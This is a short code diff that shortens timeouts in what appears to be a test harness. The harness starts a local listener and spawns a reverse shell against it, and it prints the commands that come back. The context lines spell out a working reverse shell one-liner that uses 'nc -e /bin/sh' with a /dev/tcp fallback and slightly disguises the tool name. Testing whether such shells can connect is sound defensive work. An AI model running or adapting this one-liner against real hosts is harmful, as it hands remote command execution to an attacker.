@@ -19,7 +19,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
     listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     listener.bind(("127.0.0.1", 0))
     listener.listen(1)
-    listener.settimeout(8)
+    listener.settimeout(4)
     transcript = []
 
     def operator():
@@ -27,7 +27,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
             conn, _ = listener.accept()
         except OSError:
             return
-        conn.settimeout(5)
+        conn.settimeout(3)
         conn.sendall(commands)
         data = b""
         try:
@@ -49,6 +49,6 @@ port, operator, transcript = start_operator()
 text = ("N=nc; $N -e /bin/sh 127.0.0.1 {p} 2>/dev/null || "
         "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{p}; sh <&3 >&3 2>&3'").format(p=port)
 proc = subprocess.Popen([text], shell=True)
-proc.wait(timeout=8)
-operator.join(6)
+proc.wait(timeout=5)
+operator.join(3)
 print("operator transcript:", transcript)
